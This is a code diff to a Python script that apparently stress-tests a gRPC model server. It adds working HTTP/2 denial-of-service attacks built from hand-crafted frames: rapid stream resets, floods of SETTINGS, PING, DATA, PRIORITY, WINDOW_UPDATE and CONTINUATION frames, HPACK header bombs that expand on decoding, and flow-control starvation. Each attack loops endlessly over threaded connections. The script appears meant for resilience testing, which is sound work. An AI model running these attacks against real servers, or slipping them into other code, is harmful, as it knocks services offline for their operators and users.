@@ -74,7 +74,12 @@ def frame(kind, flags, stream, payload=b""):
 
 
 def begun_calls(streams, *, encoding=b"identity"):
-    """Return the frames of gRPC calls that have begun: headers, no message."""
+    """Return the first frames of a connection with calls that have begun: headers, no message."""
+    return PREFACE + frame(4, 1, 0) + b"".join(begun(number, encoding) for number in streams)
+
+
+def begun(stream, encoding=b"identity"):
+    """Return the headers of a gRPC call."""
 
     def literal(name, value):
         return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
@@ -89,7 +94,7 @@ def begun_calls(streams, *, encoding=b"identity"):
             (b"grpc-encoding", encoding),
         )
     )
-    return PREFACE + frame(4, 1, 0) + b"".join(frame(1, 4, number, headers) for number in streams)
+    return frame(1, 4, stream, headers)
 
 
 def repeat(attack, threads=4):
@@ -224,7 +229,7 @@ def slow_readers():
 
 def slow_models():
     request = protos.PredictRequest(model_spec={"name": "batchy", "signature_name": "slow"})
-    tensor = request.inputs["x"]
+    tensor = request.inputs["w"]
     tensor.dtype = 1
     tensor.tensor_shape.dim.add(size=1)
     tensor.float_val.append(1)
@@ -246,6 +251,131 @@ def huge_json():
     repeat(lambda: ask(post("batchy", rows)), threads=2)
 
 
+def flood(begin, *frames):
+    """Send frames for ever, reading nothing but the end; again on a new connection."""
+
+    def attack():
+        with connected(GRPC_PORT) as client:
+            client.sendall(begin)
+            for some in itertools.cycle(frames):
+                client.sendall(some)
+
+    repeat(attack, threads=1)
+
+
+def together(*attacks):
+    for attack in attacks:
+        threading.Thread(target=attack, daemon=True).start()
+    threading.Event().wait()
+
+
+def rapid_resets():
+    def attack():
+        with connected(GRPC_PORT) as client:
+            client.sendall(begun_calls([]))
+            for first in itertools.count(1, 200):
+                calls = range(first, first + 200, 2)
+                client.sendall(
+                    b"".join(begun(each) + frame(3, 0, each, bytes(4)) for each in calls)
+                )
+
+    repeat(attack)
+
+
+def frame_floods():
+    """Frames that cost a server more than whoever sends them."""
+    opened, many = begun_calls([1]), 2000
+    floods = [
+        frame(4, 0, 0) * many,  # SETTINGS, each to be acknowledged
+        frame(4, 0, 0, b"\0\4\0\0\0\1\0\4\x7f\xff\xff\xff" * 16) * 100,
+        frame(6, 0, 0, b"12345678") * many,  # PING
+        frame(0, 0, 1) * many,  # DATA of nothing
+        frame(0, 8, 1, b"\xff" + bytes(255)) * 200,  # DATA of padding
+        frame(2, 0, 3, b"\0\0\0\5\xff") * many,  # PRIORITY, of streams that are not there
+        frame(8, 0, 0, b"\0\0\0\1") * many,  # WINDOW_UPDATE by a byte
+        frame(0xBE, 0xFF, 7, b"x") * many,  # what nobody knows
+    ]
+    headers = frame(1, 0, 3, b"\x82")  # END_HEADERS never comes
+    together(
+        *(lambda some=some: flood(opened, some) for some in floods),
+        lambda: flood(opened + headers, frame(9, 0, 3) * many),
+        lambda: flood(opened, frame(9, 4, 1) * many),
+    )
+
+
+def header_bombs():
+    """Headers that are small on the way, and large once they are read."""
+    entry = b"\x40\x01a" + b"\x7f\xe1\x1e" + b"x" * 4000  # remembered ...
+    repeated = b"\x83\x86\x84" + entry + b"\xbe" * 12_000  # ... and repeated, a byte each
+    huffman = b"\x83\x86\x84" + (b"\x00\x01a" + b"\xff\x81\x1d" + b"\0" * 3840) * 3  # of `0`s
+    resized = b"\x20\x3f\xe1\x1f" + b"\x83\x86\x84" + entry
+
+    def streams(block):
+        pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
+
+        def attack():
+            with connected(GRPC_PORT) as client:
+                client.sendall(begun_calls([]))
+                for number in itertools.count(1, 2):
+                    last = len(pieces) - 1
+                    client.sendall(
+                        b"".join(
+                            frame(9 if at else 1, 4 if at == last else 0, number, piece)
+                            for at, piece in enumerate(pieces)
+                        )
+                    )
+
+        return lambda: repeat(attack, threads=1)
+
+    together(*map(streams, (repeated, huffman, resized)))
+
+
+def starved_windows():
+    """Answers that are asked for and not taken, messages that come by the byte."""
+    rows = protos.PredictRequest(model_spec={"name": "half_plus_two"})
+    tensor = rows.inputs["x"]
+    tensor.dtype, tensor.tensor_content = 1, bytes(4 * 10_000)
+    tensor.tensor_shape.dim.add(size=10_000)
+    content = rows.SerializeToString()
+    message = b"\0" + len(content).to_bytes(4, "big") + content
+    pieces = [message[at : at + 16_000] for at in range(0, len(message), 16_000)]
+    no_window = frame(4, 0, 0, b"\0\4\0\0\0\0")
+
+    def call(number):
+        last = len(pieces) - 1
+        data = (frame(0, int(at == last), number, piece) for at, piece in enumerate(pieces))
+        return begun(number) + b"".join(data)
+
+    def never_open():
+        clients = deque(maxlen=20)
+        while True:
+            clients.append(connected(GRPC_PORT))
+            clients[-1].sendall(begun_calls([]) + no_window + b"".join(map(call, range(1, 40, 2))))
+            time.sleep(0.2)
+
+    def by_the_byte():
+        with connected(GRPC_PORT) as client:
+            client.sendall(begun_calls([]) + no_window + b"".join(map(call, range(1, 40, 2))))
+            for number in itertools.cycle(range(1, 40, 2)):
+                client.sendall(frame(8, 0, number, b"\0\0\0\1"))
+                time.sleep(0.001)
+
+    def written_by_the_byte():
+        with connected(GRPC_PORT) as client:
+            client.sendall(begun_calls(range(1, 200, 2)))
+            for at in itertools.count():
+                byte = message[at % len(message) :][:1]
+                client.sendall(b"".join(frame(0, 0, number, byte) for number in range(1, 200, 2)))
+                time.sleep(0.01)
+
+    together(
+        *(
+            lambda each=each: repeat(each, 1)
+            for each in (never_open, by_the_byte, written_by_the_byte)
+        )
+    )
+
+
 ATTACKS = {
     attack.__name__: attack
     for attack in (
@@ -260,6 +390,10 @@ ATTACKS = {
         slow_readers,
         slow_models,
         huge_json,
+        rapid_resets,
+        frame_floods,
+        header_bombs,
+        starved_windows,
     )
 }
 
